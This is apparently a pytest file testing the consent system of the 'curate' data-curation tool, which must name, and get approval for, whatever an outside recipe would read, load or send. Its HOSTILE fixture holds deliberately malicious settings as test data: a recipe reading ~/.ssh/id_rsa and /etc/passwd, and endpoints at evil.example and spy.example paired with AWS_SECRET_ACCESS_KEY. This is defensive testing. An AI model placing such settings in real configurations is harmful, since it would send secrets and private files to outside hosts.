"""Recipes from elsewhere: what they would use is named, and used only with consent to exactly that recipe."""

from pathlib import Path
from typing import Any

import pytest

import curate
from curate.errors import RecipeError
from curate.recipe.consent import ConsentNeeded, check_consent, trust, uses
from curate.recipe.load import Recipe, as_recipe, load_recipe, make_recipe, resolved, to_yaml

ORIGIN = {"repo": "them/set", "revision": "0123abcd", "config": "default"}
SAFE = {
    "origin": ORIGIN,
    "source": {"paths": []},
    "rules": {"max_chars_ratio": 4},
    "dedup": {"near": True, "semantic": True},
    "select": {"budget": 5, "rip": {}},
    "split": {"test": 0.2},
    "publish": {"about": "file:///etc/passwd"},
    "prompts": None,
}
HOSTILE = {
    "origin": ORIGIN,
    "source": {"paths": ["~/private.jsonl", "shipped:quickstart.jsonl"]},
    "prompts": {
        "method": "documents", "model": "openai:writer@https://evil.example/v1", "documents": ["~/*.txt"],
        "description": "d",
    },
    "generate": {
        "models": [
            {"model": "openai:a", "api_key_env": "AWS_SECRET_ACCESS_KEY", "base_url": "http://u:p@evil.example:81"},
            {"model": "openai:b", "extra": {"tool": {"url": "http://x"}}},
            {"model": "inference:c"},
            {"model": "gguf:/tmp/weights.gguf"},
        ],
        "on_policy": "openai:spy@http://spy.example/v1",
    },
    "judge": {"models": ["reward:them/reward"], "rubric": "~/.ssh/id_rsa"},
    "budget": {"prices": "/etc/prices.yaml"},
    "dedup": {"semantic": {"model": "them/encoder"}, "against": ["them/other"]},
    "decontaminate": {"against": ["mt_bench", {"path": "/data/evals.jsonl"}], "method": "embedding", "model": "them/e"},
    "select": {"like": {"examples": "/home/me/mine.txt", "texts": "tea"}, "budget": 5, "model": "them/e2"},
    "train": {"model": "them/model", "chat_template": "/tmp/t.jinja", "trl": {"beta": 0.1, "report_to": "wandb"}},
}  # fmt: skip
USES = {
    "source.paths": ["read ~/private.jsonl"],
    "prompts.model": ["send prompts to https://evil.example/v1 for the model openai:writer"],
    "prompts.documents": ["read ~/*.txt"],
    "generate.models": [
        "send prompts to http://evil.example:81/v1 with the key in AWS_SECRET_ACCESS_KEY for the model openai:a",
        "send prompts to https://api.openai.com/v1 with the key in OPENAI_API_KEY for the model openai:b",
        'set the option tool to {"url": "http://x"}',
        "send prompts to https://router.huggingface.co/v1 with the key in HF_TOKEN for the model inference:c",
        "load the model gguf:/tmp/weights.gguf",
    ],
    "generate.on_policy": ["send prompts to http://spy.example/v1 for the model openai:spy"],
    "judge.models": ["load the model reward:them/reward"],
    "judge.rubric": ["read ~/.ssh/id_rsa"],
    "budget.prices": ["read /etc/prices.yaml"],
    "dedup.against": ["read them/other"],
    "dedup.semantic.model": ["load the model them/encoder"],
    "decontaminate.against": ["read mt_bench", "read /data/evals.jsonl"],
    "decontaminate.model": ["load the model them/e"],
    "select.like.examples": ["read /home/me/mine.txt"],
    "select.model": ["load the model them/e2"],
    "train.model": ["load the model them/model"],
    "train.chat_template": ["read /tmp/t.jinja"],
    "train.trl.beta": ["set the option beta to 0.1"],
    "train.trl.report_to": ['set the option report_to to "wandb"'],
}


@pytest.fixture(autouse=True)
def _own_home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)


def listed(recipe: Recipe, **options: Any) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for use in uses(recipe, **options):
        found.setdefault(use.key, []).append(use.text)
    return found


def test_everything_that_a_recipe_would_use_is_named() -> None:
    assert listed(make_recipe(HOSTILE)) == USES
    assert set(listed(make_recipe(HOSTILE), training=True)) == {key for key in USES if key.startswith("train")}
    assert set(listed(make_recipe(HOSTILE), training=False)) == {key for key in USES if not key.startswith("train")}


def test_every_key_alone_needs_consent() -> None:
    for key in USES:
        section = key.split(".")[0]
        base: dict[str, Any] = {"origin": ORIGIN, "source": {"paths": ["shipped:quickstart.jsonl"]}}
        tree = base | {section: HOSTILE[section]}
        if section == "prompts":
            tree |= {"generate": {"models": ["embedded"]}}
        with pytest.raises(ConsentNeeded, match=r"came from them/set on the Hub and would .*--trust"):
            check_consent(make_recipe(tree), training=section == "train")


def test_rules_dedup_split_and_select_need_no_consent() -> None:
    tree = SAFE | {"source": {"paths": ["shipped:quickstart.jsonl"]}}
    assert listed(make_recipe(tree)) == {}
    check_consent(make_recipe(tree))
    check_consent(make_recipe(tree), training=True)


def test_a_users_own_recipe_needs_no_consent() -> None:
    recipe = make_recipe({name: section for name, section in HOSTILE.items() if name != "origin"})
    check_consent(recipe)
    check_consent(recipe, training=True)


def test_what_the_user_sets_needs_no_consent() -> None:
    recipe = make_recipe(HOSTILE, ["train.model=./mine", "train.trl.beta=0.2", "judge.models=[heuristic]"])
    assert set(USES) - set(listed(recipe)) == {"train.model", "train.trl.beta", "judge.models"}
    recipe = as_recipe(recipe, ["train.trl={beta: 1}", "train.chat_template=zephyr"])
    assert listed(recipe, training=True) == {}
    check_consent(recipe, training=True)


def test_every_key_that_is_named_is_one_that_set_takes() -> None:
    values = {
        "source.paths": "mine.jsonl", "generate.models": "heuristic", "judge.models": "heuristic",
        "decontaminate.against": "mine.jsonl", "prompts.model": "embedded", "generate.on_policy": "null",
    }  # fmt: skip
    steps = [{"rip": {}}, {"like": {"examples": "/home/me/mine.txt"}}]
    in_steps = {**HOSTILE, "select": {"steps": steps, "model": "them/e2"}}
    for tree in (HOSTILE, in_steps):
        assert set(listed(make_recipe(tree))) == set(USES)
        for key in USES:
            recipe = make_recipe(tree, [f"{key}={values.get(key, 'mine')}"])
            assert set(USES) - set(listed(recipe)) == {key}


def test_a_step_that_is_set_keeps_what_is_not_named() -> None:
    tree = {"origin": ORIGIN, "source": {"paths": ["shipped:quickstart.jsonl"]}}
    tree["select"] = [{"like": {"examples": "/etc/passwd"}}]
    assert set(listed(make_recipe(tree, ["select.like={texts: tea}"]))) == {"select.like.examples"}
    assert listed(make_recipe(tree, ["select.like={examples: mine.txt}"])) == {}
    assert listed(make_recipe(tree, ["select.like=null"])) == {}
    assert listed(make_recipe(tree, ["select=null"])) == {}
    named = tree | {"select": {"like": {"examples": "/etc/passwd"}}}
    assert set(listed(make_recipe(named, ["select.steps=[rip]"]))) == {"select.like.examples"}


def test_steps_of_one_name_are_set_together() -> None:
    tree = {"origin": ORIGIN, "source": {"paths": ["shipped:quickstart.jsonl"]}}
    tree["select"] = {"steps": [{"like": {"examples": "/etc/a"}}, {"like": {"examples": "/etc/b"}}]}
    assert listed(make_recipe(tree)) == {"select.steps": ["read /etc/a", "read /etc/b"]}
    assert "select.steps" in listed(make_recipe(tree, ["select.like.examples=mine.txt"]))
    assert listed(make_recipe(tree, ["select.steps=[{like: {texts: tea}}]"])) == {}


def test_the_model_of_the_train_section_may_be_used_before_training() -> None:
    tree = {
        "origin": ORIGIN, "source": {"paths": []}, "prompts": {"model": "openai:m", "description": "d"},
        "generate": {"models": ["openai:m"], "on_policy": "auto"}, "train": {"model": "them/model"},
    }  # fmt: skip
    own = ["generate.models=openai:own", "prompts.model=openai:own"]
    recipe = make_recipe(tree, own)
    assert uses(recipe, training=False) == [("train.model", "load the model transformers:them/model")]
    with pytest.raises(ConsentNeeded, match="load the model transformers:them/model"):
        check_consent(recipe)
    for mine in ("generate.on_policy=null", "train.model=my/model"):
        check_consent(make_recipe(tree, [*own, mine]))


def test_consent_is_for_exactly_this_recipe(tmp_path: Path) -> None:
    file = tmp_path / "recipe.yaml"
    file.write_text(to_yaml(make_recipe(HOSTILE)), "utf-8")
    asked: list[list[str]] = []

    def yes(wanted: Any) -> bool:
        asked.append([use.key for use in wanted])
        return True

    trust(load_recipe(file), yes)
    trust(load_recipe(file), yes)
    assert [list(dict.fromkeys(keys)) for keys in asked] == [list(USES)]  # once
    check_consent(load_recipe(file))
    check_consent(load_recipe(file, ["split.test=0.5"]))  # an edit of the user
    check_consent(load_recipe(file).model_copy(update={"judge": None}))  # a part of it
    copied = file.rename(tmp_path / "copied.yaml")
    check_consent(load_recipe(copied))
    edited = copied.read_text("utf-8").replace("evil.example/v1", "worse.example/v1")
    copied.write_text(edited, "utf-8")
    with pytest.raises(ConsentNeeded, match=r"worse\.example"):
        check_consent(load_recipe(copied))


def test_a_refusal_gives_no_consent() -> None:
    recipe = make_recipe(HOSTILE)
    with pytest.raises(ConsentNeeded, match="is not trusted"):
        trust(recipe, lambda _: False)
    with pytest.raises(ConsentNeeded):
        check_consent(recipe)


def test_the_origin_stays_with_the_recipe_and_cannot_be_overridden() -> None:
    recipe = make_recipe(HOSTILE)
    assert make_recipe(resolved(recipe)).origin == recipe.origin
    assert as_recipe(recipe, ["split.test=0"]).origin == recipe.origin
    for text in ("origin=null", "origin.repo=me/mine", " origin = {}"):
        with pytest.raises(RecipeError, match="origin"):
            make_recipe(HOSTILE, [text])


@pytest.mark.parametrize(
    "tree",
    [
        {"train": {"trl": {"trust_remote_code": True}}},
        {"train": {"trl": {"trust_remote_code": False}}},
        {"train": {"trl": {"model_init_kwargs": {"trust_remote_code": True}}}},
        {"train": {"trl": {"anything": [{"deep": {"trust_remote_code": "yes"}}]}}},
        {"generate": {"models": [{"model": "transformers:x/y", "extra": {"trust_remote_code": True}}]}},
    ],
)
def test_no_recipe_lets_code_of_a_model_run(tree: dict[str, Any]) -> None:
    with pytest.raises(RecipeError, match=r"use --trust-remote-code"):
        make_recipe({"source": {"paths": ["x"]}} | tree)


def test_no_override_lets_code_of_a_model_run() -> None:
    with pytest.raises(RecipeError, match=r"use --trust-remote-code"):
        make_recipe({"source": {"paths": ["x"]}}, ["train.trl.trust_remote_code=true"])


def test_runs_from_python_are_refused_too(tmp_path: Path) -> None:
    with pytest.raises(ConsentNeeded):
        curate.run({"origin": ORIGIN, "source": {"paths": ["~/private.jsonl"]}}, tmp_path / "RUN")
    assert not (tmp_path / "RUN").exists()


def test_trust_from_python(tmp_path: Path) -> None:
    tree = {"origin": ORIGIN, "source": {"paths": str(Path("~/no-such-file.jsonl"))}}
    assert curate.trust(tree) == ["read ~/no-such-file.jsonl (source.paths)"]
    with pytest.raises(curate.CurateError, match=r"no-such-file.jsonl does not exist"):  # it is looked for now
        curate.run(tree, tmp_path / "RUN")
